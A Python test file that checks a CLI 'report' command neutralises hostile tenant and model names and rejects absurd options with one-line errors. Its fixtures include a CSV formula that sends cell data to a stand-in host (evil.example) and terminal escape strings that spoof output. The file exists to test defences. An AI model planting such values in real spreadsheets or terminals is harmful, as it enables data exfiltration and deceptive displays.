"""`sidecar report` against hostile names and options (hardening F9): client-chosen model and
tenant names reach spreadsheets and terminals; absurd options end in one line, not a traceback."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import insert

from sidecar.ledger import db
from sidecar.ledger.models import Stream
from sidecar.ledger.render import csv_cell, display
from tests.ledger.conftest import stream

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ESCAPES = "acme\x1b[2J\x1b]0;pwned\x07\nFAKE TOTAL 0.00\u202e"


@pytest.fixture
def hostile_ledger(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    db.upgrade(url)
    started = datetime(2026, 11, 22, 10, tzinfo=UTC)
    rows = [
        stream(1, FORMULA, "+SUM(1)", "completed", (1, 1, 1), started),
        stream(2, "@cmd", ESCAPES, "completed", (1, 1, 1), started),
        stream(3, "-2+3", "\tx", "completed", (1, 1, 1), started),
    ]
    engine = db.make_engine(url)
    with engine.begin() as connection:
        connection.execute(insert(Stream), rows)
    engine.dispose()
    return url


def sidecar(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "sidecar", *args],
        capture_output=True, text=True, cwd=cwd, timeout=60,
    )  # fmt: skip


def test_csv_cells_cannot_become_formulas(hostile_ledger: str, tmp_path: Path) -> None:
    out = sidecar("report", "--db", hostile_ledger, "--since", "2026-01-01", "--by",
                  "model,tenant", "--format", "csv", cwd=tmp_path)  # fmt: skip
    assert out.returncode == 0, out.stderr
    rows = list(csv.reader(io.StringIO(out.stdout)))[1:]
    keys = sorted((r[0], r[1]) for r in rows)
    assert keys == sorted([
        ("'" + FORMULA, "'+SUM(1)"), ("'@cmd", ESCAPES), ("'-2+3", "'\tx"),
    ])  # fmt: skip
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert [csv_cell(c) for c in ("\rx", "0.5", "")] == ["'\rx", "0.5", ""]


def test_the_table_shows_no_terminal_escapes_or_line_breaks(
    hostile_ledger: str, tmp_path: Path
) -> None:
    out = sidecar("report", "--db", hostile_ledger, "--since", "2026-01-01", "--by", "tenant",
                  cwd=tmp_path)  # fmt: skip
    assert out.returncode == 0, out.stderr
    assert "\x1b" not in out.stdout and "\x07" not in out.stdout and "\u202e" not in out.stdout
    lines = out.stdout.splitlines()
    assert len(lines) == 2 + 3 + 2 + 1  # header, rule, 3 rows, rule, total, unpriced note
    assert lines[-1].startswith("unknown: no price")
    assert "acme\\x1b[2J\\x1b]0;pwned\\x07\\x0aFAKE TOTAL 0.00\\u202e" in out.stdout
    assert display("plain tenant") == "plain tenant"


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--since", "99999999d"], "error: --since 99999999d: reaches before the year 1"),
        (["--by", "model,model"], "error: --by model,model: model named twice"),
        (["--since", "1h", "--until", "2h"], "error: --since ("),
        (["--since", "2026-13-45"], "error: --since '2026-13-45': use a duration like 24h"),
    ],
)
def test_absurd_options_are_one_line(
    args: list[str], message: str, hostile_ledger: str, tmp_path: Path
) -> None:
    out = sidecar("report", "--db", hostile_ledger, *args, cwd=tmp_path)
    assert out.returncode == 2, out.stdout
    assert out.stderr.startswith(message), out.stderr
    assert out.stderr.count("\n") == 1 and "Traceback" not in out.stderr
